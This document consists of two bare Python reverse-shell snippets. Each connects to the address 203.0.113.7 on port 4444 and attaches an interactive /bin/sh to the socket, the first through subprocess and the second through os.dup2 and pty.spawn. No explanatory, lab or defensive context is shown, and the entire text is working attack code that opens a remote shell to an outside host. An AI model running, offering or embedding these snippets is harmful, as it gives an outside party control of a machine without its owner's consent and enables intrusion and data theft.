import socket, subprocess
s = socket.create_connection(("203.0.113.7", 4444))
subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
#---
import os, pty, socket
s = socket.socket()
s.connect(("203.0.113.7", 4444))
fd = s.fileno()
for f in (0, 1, 2):
    os.dup2(fd, f)
pty.spawn("/bin/sh")
